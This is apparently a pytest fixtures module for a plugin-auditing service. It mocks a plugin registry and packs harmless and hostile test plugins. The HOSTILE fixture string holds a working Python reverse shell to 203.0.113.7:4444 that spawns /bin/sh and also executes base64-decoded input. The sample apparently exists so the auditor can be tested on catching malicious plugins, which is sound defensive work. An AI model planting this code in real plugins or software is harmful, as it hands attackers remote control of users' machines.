"""The auditor's parts around a registry whose wire is replaced."""

import gzip
import hashlib
import json
from collections.abc import AsyncIterator, Callable
from dataclasses import replace
from typing import Any

import httpx
import pytest

from heimnetz_audit import Advisories, Severity
from heimnetz_audit.model.advisories import Advisory
from heimnetz_auditor import store
from heimnetz_auditor.advising import Advising
from heimnetz_auditor.auditing import Auditing
from heimnetz_auditor.consumers import SUBSCRIPTIONS, VersionSubmitted
from heimnetz_auditor.examining import Examiner
from heimnetz_auditor.policy import load_policy, parse_policy
from heimnetz_common.consuming import Consumers
from heimnetz_common.database import Database
from heimnetz_common.events import encode
from heimnetz_common.http import ServiceClient
from heimnetz_common.testing import KeyRing, fresh_database
from heimnetz_manifest import pack

MANIFEST = """\
manifest: 1
name: {plugin}
version: 1.0.0
title: A plugin
summary: Adds two numbers.
licence: Apache-2.0
authors: [{{name: Anna}}]
kind: job
runtime: python
entry_point: adder:run
triggers: {{http: true}}
"""
HARMLESS = '''"""Adds two numbers."""


def run(input, context):
    return {"sum": input["a"] + input["b"]}
'''
HOSTILE = """import base64
import os
import socket
import subprocess


def run(input, context):
    s = socket.socket()
    s.connect(("203.0.113.7", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])
    exec(base64.b64decode(input["code"]))
"""

Package = Callable[[str, str], bytes]


def advisories(name: str) -> bytes:
    """What says that versions of a package on PyPI before 2.0 are vulnerable, as it is sent."""
    known = Advisory("GHSA-a", "", Severity.HIGH, "Opens for all", (("i0", "f2.0"),), ())
    made = Advisories.build("2026-11-30T08:09:10Z", {("PyPI", name): [known]})
    return gzip.compress(made.content, mtime=0)


@pytest.fixture
def package(tmp_path: Any) -> Package:
    def make(plugin: str, source: str) -> bytes:
        folder = tmp_path / plugin
        folder.mkdir(exist_ok=True)
        (folder / "plugin.yaml").write_text(MANIFEST.format(plugin=plugin))
        (folder / "adder.py").write_text(source)
        (folder / "README.md").write_text("# A plugin\n")
        return pack(folder)

    return make


class House:
    """The auditor's parts around a registry that holds one version of each plugin."""

    def __init__(self, database: Database, key_ring: KeyRing) -> None:
        self.database = database
        self.packages: dict[str, bytes] = {}
        self.status = 200
        self.signature: dict[str, Any] | None = None
        self.installed: list[str] = []
        #: Of lower versions, the highest first.
        self.older: dict[str, tuple[str, bytes]] = {}
        self.registry = ServiceClient(
            "http://registry",
            audience="registry",
            keys=key_ring.keys("auditor"),
            transport=httpx.MockTransport(self._answer),
        )
        self.auditing = self.with_examiner(Examiner(60, 512 * 1024 * 1024))

    def with_examiner(self, examiner: Examiner) -> Auditing:
        return Auditing(
            self.database, self.registry, examiner, load_policy(None), Advising(self.database)
        )

    def with_policy(self, text: str) -> Auditing:
        return replace(self.auditing, policy=parse_policy(text))

    def _answer(self, request: httpx.Request) -> httpx.Response:
        assert request.headers["authorization"].startswith("Bearer ")
        if self.status != 200:
            return httpx.Response(self.status, json={"detail": "not now"})
        if request.url.path == "/v1/installations":
            return self._answer_installed(int(request.url.params.get("cursor", 0)))
        _, _, _, plugin, _, *rest = request.url.path.split("/")
        if not rest:
            return self._answer_versions()
        version, *rest = rest
        if version in self.older:
            return httpx.Response(200, content=self.older[version][1])
        if plugin not in self.packages or version != "1.0.0":
            return httpx.Response(404, json={"detail": "no such version"})
        body = self.packages[plugin]
        if rest == ["package"]:
            return httpx.Response(200, content=body)
        digest = hashlib.sha256(body).hexdigest()
        return httpx.Response(
            200, json={"sha256": digest, "publisher": "anna", "signature": self.signature}
        )

    def _answer_versions(self) -> httpx.Response:
        versions = [("1.1.0", "approved"), ("1.0.0", "submitted")]
        versions += [(version, state) for version, (state, _) in self.older.items()]
        items = [{"version": version, "state": state} for version, state in versions]
        return httpx.Response(200, json={"items": items, "next_cursor": None})

    def _answer_installed(self, start: int) -> httpx.Response:
        """Two a page."""
        items = [{"plugin": each, "version": "1.0.0"} for each in self.installed[start : start + 2]]
        cursor = str(start + 2) if start + 2 < len(self.installed) else None
        return httpx.Response(200, json={"items": items, "next_cursor": cursor})

    async def submit(self, plugin: str, body: bytes, **change: Any) -> str:
        self.packages[plugin] = body
        data = VersionSubmitted(
            **{
                "plugin": plugin,
                "version": "1.0.0",
                "sha256": hashlib.sha256(body).hexdigest(),
            }
            | change
        )
        _, document = encode(data, service="registry", subject=plugin, traceparent=None)
        consumers = Consumers(self.database, None, "auditor", SUBSCRIPTIONS)  # type: ignore[arg-type]
        return await consumers.deliver(SUBSCRIPTIONS[0], document, 1)

    async def announced(self) -> list[dict[str, Any]]:
        async with self.database.connection() as connection:
            rows = await connection.fetch("SELECT document FROM outbox ORDER BY id")
        return [json.loads(row["document"]) for row in rows]

    async def waiting(self) -> int:
        async with self.database.connection() as connection:
            count, _ = await store.measure_requests(connection)
        return count


@pytest.fixture
async def house(postgres_url: str, key_ring: KeyRing) -> AsyncIterator[House]:
    async with fresh_database(postgres_url, "auditor") as database:
        house = House(database, key_ring)
        yield house
        await house.registry.close()
